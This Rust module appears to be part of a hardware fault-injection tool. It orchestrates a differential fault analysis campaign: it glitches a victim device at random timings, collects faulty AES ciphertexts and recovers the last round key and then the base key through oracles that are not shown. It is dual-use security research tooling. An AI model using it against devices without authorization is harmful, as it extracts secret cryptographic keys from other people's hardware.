//! The differential fault analysis campaign.
//!
//! One campaign captures a golden ciphertext, then glitches the victim with random
//! delay/length pairs from the configured ranges until the round-key oracle has
//! resolved the whole last round key or the attempts run out. Unique localized faults
//! are collected in a [`FaultCorpus`]; the first unique fault of a thin group makes
//! the following attempts reuse the same parameters.

pub mod corpus;
pub mod statistics;

use indicatif::ProgressBar;
use log::{debug, info, warn};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::Deserialize;
use std::cell::Cell;
use std::fmt;
use std::rc::Rc;

use crate::classifier::{classify, Block, Category, BLOCK_SIZE};
use crate::controller::{FiredHandler, GlitchController};
use crate::engine::Level;
use crate::error::GlitchError;
use crate::hardware::{ExecutionUnit, FiredEvent, VictimLink};
use crate::oracle::key_schedule::LAST_ROUND;
use crate::oracle::{KeyRecoveryState, KeyScheduleOracle, RoundKeyOracle};
use crate::units::{ClockParameters, GlitchParameters};
pub use corpus::{FaultCorpus, FaultRecord, GroupCounters, RetryBudget};
pub use statistics::{Bounds, CampaignReport, CampaignStatistics, CategoryStats, Outcome};

/// Campaign parameters.
#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(default)]
pub struct CampaignSettings {
    pub min_delay_ns: f64,
    pub max_delay_ns: f64,
    pub min_length_ns: f64,
    pub max_length_ns: f64,
    /// Attempts including the golden capture (attempt 0).
    pub repeats: u64,
    /// Wait after reset release before polling the victim.
    pub settle_us: u64,
    /// Wait between two polls, one byte time on the victim link.
    pub byte_wait_us: u64,
    pub max_read_attempts: u32,
    pub rx_buffer_bytes: usize,
    pub max_reads_per_drain: u32,
    /// Attempts at unchanged parameters after the first fault of a thin group.
    pub group_retry_budget: u32,
    /// Key recovery progress from which the oracle waits for every group to hold two
    /// records.
    pub suppression_percent: u8,
    pub corpus_capacity: usize,
    pub seed: Option<u64>,
    pub progress: bool,
}

impl Default for CampaignSettings {
    fn default() -> Self {
        Self {
            min_delay_ns: 58_000.0,
            max_delay_ns: 63_500.0,
            min_length_ns: 500.0,
            max_length_ns: 800.0,
            repeats: 50_000,
            settle_us: 21_000,
            byte_wait_us: 87,
            max_read_attempts: 250,
            rx_buffer_bytes: 1024,
            max_reads_per_drain: 10,
            group_retry_budget: 25,
            suppression_percent: 75,
            corpus_capacity: 512,
            seed: None,
            progress: true,
        }
    }
}

impl CampaignSettings {
    /// Checks the ranges against the engine limits before anything touches hardware.
    pub fn validate(&self, clock: &ClockParameters) -> Result<(), GlitchError> {
        if self.min_delay_ns > self.max_delay_ns {
            return Err(GlitchError::invalid(format!(
                "delay range inverted: {} ns > {} ns",
                self.min_delay_ns, self.max_delay_ns
            )));
        }
        if self.min_length_ns > self.max_length_ns {
            return Err(GlitchError::invalid(format!(
                "length range inverted: {} ns > {} ns",
                self.min_length_ns, self.max_length_ns
            )));
        }
        clock.delay_to_clocks(self.min_delay_ns)?;
        clock.delay_to_clocks(self.max_delay_ns)?;
        clock.length_to_clocks(self.min_length_ns)?;
        clock.length_to_clocks(self.max_length_ns)?;
        if self.repeats == 0 {
            return Err(GlitchError::invalid("a campaign needs at least the golden attempt"));
        }
        if self.rx_buffer_bytes < BLOCK_SIZE {
            return Err(GlitchError::invalid(format!(
                "receive buffer must hold at least {BLOCK_SIZE} bytes"
            )));
        }
        if self.max_reads_per_drain == 0 {
            return Err(GlitchError::invalid("at least one read per drain is needed"));
        }
        if self.suppression_percent > 100 {
            return Err(GlitchError::invalid("suppression threshold is a percentage"));
        }
        Ok(())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CampaignPhase {
    Idle,
    CapturingGolden,
    Searching,
    KeyRecovering,
    Reporting,
}

impl fmt::Display for CampaignPhase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            CampaignPhase::Idle => "idle",
            CampaignPhase::CapturingGolden => "capturing golden",
            CampaignPhase::Searching => "searching",
            CampaignPhase::KeyRecovering => "key recovering",
            CampaignPhase::Reporting => "reporting",
        };
        write!(f, "{name}")
    }
}

/// Mutable state of one campaign.
#[derive(Debug, Clone)]
pub struct OrchestratorContext {
    pub params: GlitchParameters,
    pub golden: Block,
    pub corpus: FaultCorpus,
    pub groups: GroupCounters,
    pub budget: RetryBudget,
    pub key: KeyRecoveryState,
    pub statistics: CampaignStatistics,
}

impl OrchestratorContext {
    fn new(params: GlitchParameters, corpus_capacity: usize) -> Self {
        Self {
            params,
            golden: [0; BLOCK_SIZE],
            corpus: FaultCorpus::new(corpus_capacity),
            groups: GroupCounters::default(),
            budget: RetryBudget::default(),
            key: KeyRecoveryState::default(),
            statistics: CampaignStatistics::default(),
        }
    }

    fn report(&self, outcome: Outcome) -> CampaignReport {
        CampaignReport {
            outcome,
            golden: self.golden,
            statistics: self.statistics.clone(),
            key: self.key.clone(),
            group_counts: self.groups.as_array(),
            corpus: self.corpus.by_group(),
        }
    }

    fn clear(&mut self) {
        self.corpus.clear();
        self.groups.clear();
        self.budget.clear();
        self.key.clear();
    }
}

/// Bytes of one capture, truncated to a block.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Capture {
    bytes: Vec<u8>,
    polls: u32,
    reread: bool,
}

fn fired_counter<U: ExecutionUnit + 'static>(fired: Rc<Cell<u64>>) -> FiredHandler<U> {
    Box::new(move |_: &mut GlitchController<U>, _: FiredEvent| fired.set(fired.get() + 1))
}

/// Drives campaigns against one victim.
pub struct Orchestrator<U: ExecutionUnit, L: VictimLink> {
    controller: GlitchController<U>,
    link: L,
    round_key_oracle: Box<dyn RoundKeyOracle>,
    key_schedule: Box<dyn KeyScheduleOracle>,
    params: GlitchParameters,
    phase: CampaignPhase,
    fired: Rc<Cell<u64>>,
}

impl<U: ExecutionUnit + 'static, L: VictimLink> Orchestrator<U, L> {
    pub fn new(
        controller: GlitchController<U>,
        link: L,
        round_key_oracle: Box<dyn RoundKeyOracle>,
        key_schedule: Box<dyn KeyScheduleOracle>,
    ) -> Self {
        Self {
            controller,
            link,
            round_key_oracle,
            key_schedule,
            params: GlitchParameters::default(),
            phase: CampaignPhase::Idle,
            fired: Rc::new(Cell::new(0)),
        }
    }

    pub fn controller(&self) -> &GlitchController<U> {
        &self.controller
    }

    pub fn controller_mut(&mut self) -> &mut GlitchController<U> {
        &mut self.controller
    }

    pub fn link(&self) -> &L {
        &self.link
    }

    pub fn link_mut(&mut self) -> &mut L {
        &mut self.link
    }

    /// Operator glitch parameters. A campaign leaves its last draw here.
    pub fn params(&self) -> &GlitchParameters {
        &self.params
    }

    pub fn params_mut(&mut self) -> &mut GlitchParameters {
        &mut self.params
    }

    pub fn phase(&self) -> CampaignPhase {
        self.phase
    }

    /// Runs one campaign to completion.
    ///
    /// # Arguments
    ///
    /// * `settings` - Ranges, repeats and capture timing.
    ///
    /// # Returns
    ///
    /// * `Ok(CampaignReport)` - Campaign ran to the end, key recovered or attempts
    ///   exhausted. The victim is left unpowered and held in reset.
    /// * `Err(GlitchError)` - Invalid settings, no golden ciphertext or a hardware
    ///   failure. The glitcher is disarmed and the victim held in reset.
    pub fn run_campaign(
        &mut self,
        settings: &CampaignSettings,
    ) -> Result<CampaignReport, GlitchError> {
        settings.validate(self.controller.clock())?;
        let mut context = OrchestratorContext::new(self.params, settings.corpus_capacity);
        self.fired.set(0);
        self.controller.set_auto_rearm(false);

        let result = self.search(settings, &mut context);
        self.params = context.params;
        context.statistics.glitches_fired = self.fired.get();

        match result {
            Ok(outcome) => {
                self.phase = CampaignPhase::Reporting;
                let report = context.report(outcome);
                context.clear();
                let finished = self.power_down();
                self.phase = CampaignPhase::Idle;
                finished.map(|_| report)
            }
            Err(error) => {
                warn!("Campaign aborted in phase {}: {error}", self.phase);
                context.clear();
                self.safe_state();
                self.phase = CampaignPhase::Idle;
                Err(error)
            }
        }
    }

    fn search(
        &mut self,
        settings: &CampaignSettings,
        context: &mut OrchestratorContext,
    ) -> Result<Outcome, GlitchError> {
        let clock = *self.controller.clock();
        let mut rng = match settings.seed {
            Some(seed) => StdRng::seed_from_u64(seed),
            None => StdRng::from_entropy(),
        };

        self.power_up()?;
        self.phase = CampaignPhase::CapturingGolden;
        self.controller.disarm();
        let capture = self.capture(settings, None)?;
        if capture.bytes.len() < BLOCK_SIZE {
            return Err(GlitchError::GoldenCaptureFailed {
                received: capture.bytes.len(),
            });
        }
        context.golden.copy_from_slice(&capture.bytes[..BLOCK_SIZE]);
        info!("Golden ciphertext {:02x?}", context.golden);

        self.phase = CampaignPhase::Searching;
        let bar = if settings.progress {
            ProgressBar::new(settings.repeats - 1)
        } else {
            ProgressBar::hidden()
        };
        let mut outcome = Outcome::Exhausted;

        for attempt in 1..settings.repeats {
            if context.budget.consume() {
                debug!(
                    "Reusing parameters, {} retries left",
                    context.budget.remaining()
                );
            } else {
                let delay = rng.gen_range(settings.min_delay_ns..=settings.max_delay_ns);
                let length = rng.gen_range(settings.min_length_ns..=settings.max_length_ns);
                context.params.set_delay_ns(&clock, delay)?;
                context.params.set_length_ns(&clock, length)?;
            }
            let delay_ns = context.params.delay_ns(&clock);
            let length_ns = context.params.length_ns(&clock);

            let capture = self.capture(settings, Some(context.params))?;
            let category = classify(&context.golden, &capture.bytes);
            debug!(
                "Attempt {attempt}: {:?} at {delay_ns:.1} ns / {length_ns:.1} ns",
                category
            );

            let stats = &mut context.statistics;
            stats.attempts += 1;
            stats.record(category.kind(), delay_ns, length_ns);
            stats.read_attempts.record(capture.polls);
            if capture.reread {
                stats.rereads += 1;
            }

            if let Category::LocalizedFault(group) = category {
                context.statistics.group_delay_ns[group].record(delay_ns);
                let mut ciphertext = [0u8; BLOCK_SIZE];
                ciphertext.copy_from_slice(&capture.bytes[..BLOCK_SIZE]);
                let record = FaultRecord {
                    ciphertext,
                    group,
                    delay_ns,
                    length_ns,
                };
                if Self::record_fault(settings, context, record)?
                    && Self::recovery_worthwhile(settings, context)
                {
                    if let Some(base_key) = self.recover_key(context)? {
                        outcome = Outcome::KeyRecovered { base_key };
                        bar.inc(1);
                        break;
                    }
                }
            }
            bar.inc(1);
        }
        bar.finish_and_clear();
        info!(
            "Campaign finished after {} attempts, {} unique faults",
            context.statistics.attempts,
            context.corpus.len()
        );
        Ok(outcome)
    }

    /// Adds a unique fault and updates the group retry budget. True when the corpus
    /// grew. Absorbed corpus errors drop the sample, anything else aborts.
    fn record_fault(
        settings: &CampaignSettings,
        context: &mut OrchestratorContext,
        record: FaultRecord,
    ) -> Result<bool, GlitchError> {
        match context.corpus.push(record) {
            Ok(true) => {}
            Ok(false) => return Ok(false),
            Err(error) if error.is_absorbed() => {
                warn!("{error}, sample dropped");
                context.statistics.dropped_samples += 1;
                context.statistics.corpus_truncated = true;
                return Ok(false);
            }
            Err(error) => return Err(error),
        }
        let count = context.groups.increment(record.group);
        if !context.budget.is_active() && count < 2 {
            debug!(
                "First fault in group {}, retrying {} times",
                record.group, settings.group_retry_budget
            );
            context.budget.start(settings.group_retry_budget);
        } else if count == 2 {
            context.budget.clear();
        }
        Ok(true)
    }

    /// Past the threshold the oracle is only asked once every group has two records.
    fn recovery_worthwhile(settings: &CampaignSettings, context: &OrchestratorContext) -> bool {
        !(context.key.percent_found >= settings.suppression_percent && context.groups.any_below(2))
    }

    fn recover_key(
        &mut self,
        context: &mut OrchestratorContext,
    ) -> Result<Option<Block>, GlitchError> {
        self.phase = CampaignPhase::KeyRecovering;
        context.statistics.oracle_calls += 1;
        let guess = self
            .round_key_oracle
            .recover_round_key(&context.corpus.ciphertexts(), &context.golden);
        if guess.is_none() {
            debug!("{}", GlitchError::OracleInconclusive);
        }
        context.key.update(guess);
        info!(
            "Round 10 key {} ({}%)",
            context.key.partial_round_key, context.key.percent_found
        );
        self.phase = CampaignPhase::Searching;

        if !context.key.is_complete() {
            return Ok(None);
        }
        let Some(round_key) = context.key.partial_round_key.to_bytes() else {
            return Ok(None);
        };
        let base_key = self
            .key_schedule
            .reverse_key_schedule(&round_key, LAST_ROUND)?;
        context.key.recovered_base_key = Some(base_key);
        info!("Base key {:02x?}", base_key);
        Ok(Some(base_key))
    }

    /// One reset cycle of the victim, optionally with the glitcher armed.
    fn capture(
        &mut self,
        settings: &CampaignSettings,
        armed: Option<GlitchParameters>,
    ) -> Result<Capture, GlitchError> {
        self.link.flush_input()?;
        self.link.set_reset(Level::Low)?;
        if let Some(params) = armed {
            self.controller
                .arm(&params, Some(fired_counter(Rc::clone(&self.fired))))?;
        }
        self.link.set_reset(Level::High)?;
        self.link.wait_us(settings.settle_us);

        let mut polls = 0;
        while polls < settings.max_read_attempts && self.link.bytes_available()? < BLOCK_SIZE {
            self.link.wait_us(settings.byte_wait_us);
            polls += 1;
        }
        let mut bytes = Vec::with_capacity(settings.rx_buffer_bytes);
        self.drain(settings, &mut bytes)?;
        let mut reread = false;
        if bytes.len() < settings.rx_buffer_bytes && self.link.bytes_available()? > 0 {
            self.drain(settings, &mut bytes)?;
            reread = true;
        }
        self.link.set_reset(Level::Low)?;
        self.controller.service_notifications();
        self.controller.disarm();

        if bytes.is_empty() {
            debug!(
                "{}",
                GlitchError::CaptureTimeout {
                    attempts: polls,
                    received: 0
                }
            );
        }
        bytes.truncate(BLOCK_SIZE);
        Ok(Capture {
            bytes,
            polls,
            reread,
        })
    }

    /// Reads what the victim sent, bounded by the read count and the buffer size.
    fn drain(&mut self, settings: &CampaignSettings, bytes: &mut Vec<u8>) -> Result<(), GlitchError> {
        for _ in 0..settings.max_reads_per_drain {
            let room = settings.rx_buffer_bytes - bytes.len();
            let available = self.link.bytes_available()?;
            if available == 0 || room == 0 {
                break;
            }
            bytes.extend(self.link.read(available.min(room))?);
        }
        Ok(())
    }

    fn power_up(&mut self) -> Result<(), GlitchError> {
        self.link.flush_input()?;
        self.link.set_reset(Level::Low)?;
        self.link.set_power(Level::High)
    }

    fn power_down(&mut self) -> Result<(), GlitchError> {
        self.controller.disarm();
        self.link.set_reset(Level::Low)?;
        self.link.set_power(Level::Low)?;
        self.link.flush_input()
    }

    /// Disarms and holds the victim in reset, leaving power as it is.
    fn safe_state(&mut self) {
        self.controller.disarm();
        if let Err(error) = self.link.set_reset(Level::Low) {
            warn!("Could not assert victim reset: {error}");
        }
    }
}
